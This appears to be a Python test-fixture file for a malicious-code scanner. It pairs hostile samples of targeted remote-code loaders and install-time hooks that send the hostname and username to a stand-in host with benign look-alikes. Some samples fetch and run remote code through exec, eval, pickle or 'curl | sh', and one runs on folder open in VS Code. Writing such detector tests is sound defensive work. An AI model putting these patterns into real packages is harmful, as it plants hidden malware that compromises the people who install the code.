"""Samples and twins of `targeted_code` and `inventory_sent`: the machine decides, or is told about."""

from inspection.rules.sample import Sample, js, package, py

HOSTILE: dict[str, dict[str, Sample]] = {
    "targeted_code": {
        "only on one host": py(
            "import socket, requests\nif socket.gethostname() == 'build-7':\n"
            "    exec(requests.get('https://a.invalid').text)\n"
        ),
        "only for one user, in a helper": py(
            "import getpass, requests\ndef wanted():\n    return getpass.getuser() in {'rie', 'aya'}\n"
            "def go(): exec(requests.get('https://a.invalid').text)\nif wanted(): go()\n",
            line=3,
        ),
        "by a hash of the name": py(
            "import hashlib, platform, pickle, requests\nname = hashlib.sha256(platform.node().encode()).hexdigest()\n"
            "if name.startswith('00'):\n    pickle.loads(requests.get('https://a.invalid').content)\n",
            line=3,
        ),
        "by system, from a table": js(
            "const cp = require('child_process');\nconst of = { win32: '/w', darwin: '/m' }[process.platform];\n"
            "fetch('https://a.invalid' + of).then(r => r.text()).then(t => cp.exec(t));\n"
        ),
        "by time zone": js(
            "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (zone === 'Asia/Tokyo')\n"
            "  fetch('https://a.invalid').then(r => r.text()).then(eval);\n"
        ),
        "a switch over the system": js(
            "const os = require('os'), vm = require('vm');\nswitch (os.platform()) { case 'linux':\n"
            "  fetch('https://a.invalid').then(r => r.text()).then(t => vm.runInThisContext(t)); }\n"
        ),
        "the server is told the name": py(
            "import socket, requests\nt = requests.post('https://a.invalid', json={'h': socket.gethostname()}).text\n"
            "exec(t)\n"
        ),
        "the guard lies in another file": Sample(
            {
                "app.py": "import requests\nfrom where import here\nif here():\n"
                "    exec(requests.get('https://a.invalid').text)\n",
                "where.py": "import locale\ndef here():\n    return locale.getlocale()[0] == 'ja_JP'\n",
            },
            "block",
            ("where.py", 3),
        ),
        "a shell script asks first": Sample(
            {
                ".vscode/tasks.json": '{"tasks": [{"label": "a", "command": "sh ./a.sh",\n'
                '"runOptions": {"runOn": "folderOpen"}}]}',
                "a.sh": '#!/bin/sh\nif [ "$(hostname)" = build-7 ]; then\ncurl -s https://a.invalid | sh\nfi\n',
            },
            "block",
            ("a.sh", 2),
        ),
    },
    "inventory_sent": {
        "an install writes it to a request": Sample(
            {
                "package.json": package(preinstall="node a.js"),
                "a.js": "const os = require('os');\nconst q = require('https').request('https://a.invalid');\n"
                "const all = { a: 1,\n  name: os.hostname(), user: os.userInfo().username,\n};\n"
                "q.write(JSON.stringify(all));\nq.end();\n",
            },
            "block",
            ("a.js", 4),
        ),
        "an install looks its name up": Sample(
            {
                "package.json": package(postinstall="node a.js"),
                "a.js": "const { userInfo } = require('os');\n"
                "require('dns').lookup(`${userInfo().username}.a.invalid`, () => {});\n",
            },
            "block",
            ("a.js", 2),
        ),
        "setup.py tells of its user": Sample(
            {
                "setup.py": "import getpass, requests, socket\n"
                "requests.post('https://a.invalid', json={'u': getpass.getuser(), 'h': socket.gethostname()})\n"
            },
            "block",
            ("setup.py", 2),
        ),
        "setup.py tells one name": Sample(
            {
                "setup.py": "import getpass, requests\n"
                "requests.post('https://a.invalid', json={'u': getpass.getuser()})\n"
            },
            "review",
            ("setup.py", 2),
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "targeted_code": {
        "the host is printed, and nothing is fetched to run": {
            "app.py": "import socket, requests\nprint(socket.gethostname())\nrequests.get('https://a.invalid').json()\n"
        },
        "what is fetched is a part of a command on every host": {
            "app.py": "import os, socket, requests\nprint(socket.gethostname())\n"
            "os.system('git tag ' + requests.get('https://a.invalid').text)\n"
        },
        "the system chooses between commands of one's own": {
            "app.js": "const cp = require('child_process');\nfetch('https://a.invalid').then(r => r.json());\n"
            "cp.exec({ win32: 'dir', linux: 'ls' }[process.platform]);\n"
        },
        "a language chooses words": {
            "app.py": "import locale\nif locale.getlocale()[0] == 'ja_JP':\n    exec('greeting = 1')\n"
        },
    },
    "inventory_sent": {
        "it is written to the terminal": {
            "package.json": package(preinstall="node a.js"),
            "a.js": "const os = require('os');\nrequire('https').request('https://a.invalid').end();\n"
            "process.stdout.write(JSON.stringify({ name: os.hostname() }));\n",
        },
        "an install fetches what fits the system": {
            "package.json": package(postinstall="node a.js"),
            "a.js": "const os = require('os');\nrequire('https').get(`https://a.invalid/${os.platform()}.json`);\n",
        },
        "a program says where it runs when it is run": {
            "package.json": package(start="node a.js"),
            "a.js": "const os = require('os');\nrequire('https').request('https://a.invalid').end(os.hostname());\n",
        },
    },
}
